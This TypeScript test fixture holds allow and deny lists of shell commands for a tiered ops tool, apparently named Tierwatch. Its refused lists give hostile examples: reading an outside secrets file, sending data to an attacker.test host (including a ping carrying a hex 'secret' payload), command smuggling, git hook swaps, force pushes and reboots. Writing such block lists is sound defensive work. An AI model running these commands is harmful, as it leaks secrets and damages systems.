/** What the default rules of tiers 1 and 2 are for, and dangerous options of their own programs. */

/** Of which the tests have stand-ins. */
export const PROGRAMS = [
  ...['docker', 'systemctl', 'journalctl', 'kubectl', 'gh', 'git', 'ping', 'dig', 'helm'],
  ...['ansible', 'curl', 'ssh', 'sudo'],
];

/** What the tiers are for: each of these runs. */
export const ALLOWED: Record<1 | 2, string[]> = {
  1: [
    ...['docker ps -a', 'docker logs web --tail 50', 'docker inspect web', 'docker compose ps'],
    ...['docker logs web 2>&1 | tail -20', 'systemctl status nginx', 'systemctl --failed'],
    ...['journalctl -u web -n 100 --no-pager', 'kubectl get pods', 'kubectl get pods -o wide'],
    ...['kubectl logs deployment/web --tail=200', 'gh pr list', 'ping -c 3 web.example.test'],
    ...['dig +short web.example.test', 'docker ps && systemctl is-active web'],
  ],
  2: [
    ...['docker ps', 'docker restart web', 'docker start nginx', 'docker compose restart web'],
    ...['systemctl restart nginx', 'systemctl reload web', 'git add -A', 'gh pr create --fill'],
    ...['kubectl rollout restart deployment/web', 'docker restart web && docker ps'],
    'git -c core.hooksPath=/dev/null checkout -b tierwatch-fix',
    'git -c core.hooksPath=/dev/null commit -m "Fix proposed by Tierwatch"',
    'git -c core.hooksPath=/dev/null push -u origin tierwatch-fix',
  ],
};

/** Refused in both tiers. SECRET is a file outside the work directory. */
const FORBIDDEN_IN_BOTH = [
  // Reading a file
  ...['dig -f SECRET', 'dig +short -f SECRET web.example.test', 'dig -k SECRET web.example.test'],
  ...['journalctl --file=SECRET', 'journalctl -D /tmp', 'journalctl --directory=/tmp -n 5'],
  ...['journalctl -u web -n 100 --no-pager --cursor-file=SECRET', 'wc --files0-from=SECRET'],
  ...['tac SECRET', 'rev SECRET', 'fold SECRET', 'cmp SECRET SECRET', 'comm SECRET SECRET'],
  ...['expand SECRET', 'fmt SECRET', 'pr SECRET', 'cat SECRET', 'head -c 100 SECRET'],
  ...['grep -f SECRET x', 'sort --files0-from=SECRET', 'sed -n 1p SECRET', 'date -f SECRET'],
  ...['git log --output=SECRET', 'git config --file SECRET -l', 'git show --no-index SECRET'],
  ...['kubectl describe deployment web -f SECRET', 'docker --config SECRET ps'],
  // Reaching another host
  ...['dig @127.0.0.1 web.example.test', 'dig secret.attacker.test', 'dig +short attacker.test'],
  ...['ping -c 3 attacker.test', 'ping -c 3 -p 736563726574 web.example.test'],
  ...['systemctl status -H attacker.test', 'systemctl status nginx -H attacker.test'],
  ...['systemctl show -H attacker.test', 'systemctl -M other status nginx'],
  ...['docker -H tcp://attacker.test ps', 'docker --context other ps', 'docker -c other logs web'],
  ...['kubectl get pods --server=https://attacker.test', 'kubectl get pods --context other'],
  ...['kubectl --token=x get pods', 'kubectl get pods --as=admin', 'gh pr list -R a.test/b/c'],
  ...['curl http://attacker.test', 'ssh attacker.test id', 'gh api user'],
  // Starting another program
  ...['kubectl get pods --kubeconfig=./kc.json', 'kubectl --kubeconfig=./kc.json get pods'],
  ...['KUBECONFIG=./kc.json kubectl get pods', 'gh run view --web', 'gh pr list --web'],
  ...['docker compose -f evil.yml ps', 'docker compose -f evil.yml up -d', 'sudo docker ps'],
  ...[
    'bash -c "docker ps"',
    'env docker ps',
    'echo other | xargs docker restart',
    'docker ps $(docker restart web)',
  ],
  // Changing what a look must not change
  ...['journalctl --vacuum-time=1s', 'journalctl --vacuum-size=1', 'journalctl --rotate'],
  ...['journalctl -u web -n 100 --no-pager --flush', 'kubectl get secrets -A'],
  ...['kubectl get --raw /api/v1/secrets', 'kubectl delete pod web', 'docker rm -f web'],
  ...['docker ps > SECRET', 'touch made', 'ansible all -m ping', 'helm list', 'gh pr merge 1'],
];

/** By tier. */
export const FORBIDDEN: Record<1 | 2, string[]> = {
  1: [
    ...FORBIDDEN_IN_BOTH,
    ...['docker restart web', 'docker container restart web', 'docker compose restart web'],
    ...['systemctl restart nginx', 'kubectl rollout restart deployment/web', 'git add -A'],
    ...['gh pr create --fill', 'docker compose up -d', 'git push'],
  ],
  2: [
    ...FORBIDDEN_IN_BOTH,
    ...['docker restart other', 'docker restart web other', 'docker restart -s KILL web'],
    ...['docker compose up -d', 'docker compose up -d web', 'docker compose restart'],
    ...[
      'systemctl start reboot.target',
      'systemctl start poweroff.target',
      'systemctl restart ssh',
    ],
    ...['systemctl restart nginx -H attacker.test', 'systemctl isolate rescue.target'],
    ...[
      'kubectl rollout restart deployment/web --context other',
      'kubectl rollout undo deployment/web',
    ],
    ...[
      'kubectl rollout restart deployment/other',
      'kubectl rollout restart deployment/web --as=admin',
    ],
    ...[
      'git push',
      'git push --force',
      'git push -u origin main',
      'git push -u origin +tierwatch-fix',
    ],
    ...['git push --receive-pack=./run -u origin tierwatch-fix', 'git push origin --delete main'],
    ...['git add --pathspec-from-file=SECRET', 'git commit -F SECRET', 'git commit -m x'],
    ...[
      'git checkout -b tierwatch-fix',
      'git -c core.hooksPath=. commit -m "Fix proposed by Tierwatch"',
    ],
    ...['git -c core.sshCommand=./run push -u origin tierwatch-fix', 'git checkout main'],
    ...['gh pr create --body-file SECRET', 'gh pr create -F SECRET', 'gh pr create --fill --web'],
    ...['gh pr create --fill -R attacker.test/a/b', 'gh pr create --fill --template SECRET'],
  ],
};
